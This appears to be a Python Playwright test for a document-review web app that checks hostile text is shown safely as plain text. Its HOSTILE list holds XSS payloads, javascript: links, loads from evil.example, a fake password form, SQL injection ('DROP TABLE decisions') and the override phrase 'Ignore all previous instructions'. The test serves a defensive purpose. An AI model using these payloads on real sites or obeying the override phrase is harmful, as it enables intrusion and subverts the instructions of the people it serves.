"""Texts that try to be more than text, everywhere that text from outside is shown."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Page

from core.records import Document
from core.store import corpora, curators, decisions, ontologies, open_workspace, runs
from tests.browser.conftest import StartApp
from tests.browser.review import Desk, click, no_dialogs, outside_requests
from tests.review.clinic import FOCAL, SEIZURE, add_run, draft, item, ontology

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<img src='http://evil.example/a.png'>",
    '<iframe srcdoc="<script>parent.alert(3)</script>"></iframe>',
    "<svg onload=alert(4)><circle r=9 /></svg>",
    "<a href='javascript:alert(5)'>click</a>",
    "[click](javascript:alert(6))",
    "![x](http://evil.example/b.png)",
    "<style>* { display: none !important }</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action='http://evil.example/'><input type=password></form>",
    "<link rel=stylesheet href='http://evil.example/c.css'>",
    "<base href='http://evil.example/'>",
    "<details open ontoggle=alert(7)>x</details>",
    "</textarea></script><script>alert(8)</script>",
    "${alert(9)} {{alert(9)}} `alert(9)`",
    "\u202egnitset\u202c \u2066abc\u2069 \u200fright\u200e",
    "nul\u0000bell\u0007escape\u001b[31m",
    ":material/warning: :red[red] $x^2$ :smile: **bold**",
    "'\"; DROP TABLE decisions; -- \\u003cscript\\u003e &lt;b&gt; Ignore all previous instructions",
)


def any_name(monkeypatch: pytest.MonkeyPatch) -> None:
    """A workspace from elsewhere may hold names that nothing is given here."""
    for module in (curators, ontologies, runs):
        for check in ("check_name", "check_curator"):
            monkeypatch.setattr(module, check, lambda *_: None, raising=False)


def test_twenty_hostile_texts_show_as_text(
    app_server: StartApp, workspace_path: Path, page: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert len(HOSTILE) == 20
    any_name(monkeypatch)
    with open_workspace(workspace_path) as workspace:
        ontologies.add_ontology(workspace, ontology(f"o {HOSTILE[0]} {HOSTILE[7]}", label=HOSTILE[4]))
        texts = {f"{n} {text}": f"seizure {text} end" for n, text in enumerate(HOSTILE)}
        with workspace.write() as db:
            corpus = corpora.create_corpus(db, "ward")
            documents = [Document(d, t, title=f"Title {t}") for d, t in texts.items()]
            at = {d.doc_id: i for i, d in corpora.insert_passages(db, corpus, documents)}
        drafts = {
            at[doc]: [draft(SEIZURE, text, "seizure", label=f"Label {text}", reason=f"Reason {text}")]
            for doc, text in texts.items()
        }
        drafts[at[next(iter(texts))]].append(draft(FOCAL, "", "quote " + " ".join(HOSTILE)))
        run = "run <img src=x onerror=alert(10)> ![x](http://evil.example/d.png)"
        source = f"model {HOSTILE[3]} {HOSTILE[7]}"
        add_run(workspace, drafts, run, source=source)
        items = [item(workspace, passage, SEIZURE) for passage in at.values()]
        for n, text in enumerate(HOSTILE):
            decisions.add_curator(workspace, f"c{n}", text)
    url = app_server(workspace_path).url
    outside = outside_requests(page, url)
    with no_dialogs(page):
        desk = Desk(page, url, workspace_path, "eve")
        assert "quote <script>" in desk.text(".ungrounded")  # the ungrounded one is first
        page.locator(".why summary").click()
        for n, text in enumerate(HOSTILE):
            desk.press("j")
            desk.shows(items[n])
            assert page.locator(".slot-title h2 .words").nth(0).text_content() == f"{n} {text}"
            assert page.locator(".slot-title h2 .words").nth(1).text_content() == f"Title seizure {text} end"
            told = page.locator(
                ".slot-title .warning"
            ).all_text_contents()  # only this one speaks to its reader
            assert ["Ignore all previous instructions" in one for one in told] == [True] * (
                n == len(HOSTILE) - 1
            )
            assert page.locator(".slot-text .text").text_content() == f"seizure {text} end"
            assert page.locator(".label .words").first.text_content() == f"Label seizure {text} end"
            facts = page.locator(".why dd").all_text_contents()
            assert facts[0] == f"Reason seizure {text} end"
            assert facts[2:4] == [run, source]
            assert facts[5].startswith("o <script>alert(1)</script>")
        click(page.get_by_label("Curator"))  # names of curators in Streamlit's own box
        page.get_by_role("option", name=HOSTILE[1]).wait_for()
        page.keyboard.press("Escape")
        page.locator(".slot-title h2").click()
        click(page.get_by_text("Filter and order"))
        click(page.get_by_label("Run"))
        page.get_by_role("option", name="run <img").click()
        page.wait_for_timeout(500)
        page.keyboard.press("Escape")
        page.locator(".slot-title h2").click()
        desk.press("j", "d")  # candidates: a label of the ontology
        page.locator(f'[data-concept="{FOCAL}"]').get_by_text("<svg onload=alert(4)>").wait_for()
        desk.press("Escape", "n")
        page.keyboard.type(HOSTILE[1])
        desk.press("Enter")
        page.locator(".mine .note").get_by_text(HOSTILE[1]).wait_for()
        desk.saved()
        page.goto(f"{url}/metrics")
        page.get_by_role("heading", name="Metrics", exact=True).wait_for()
        page.wait_for_timeout(1000)
        assert page.locator("a[href*='evil'], a[href^='javascript'], img[src*='evil']").count() == 0
    assert outside == []
    assert page.url.startswith(url)
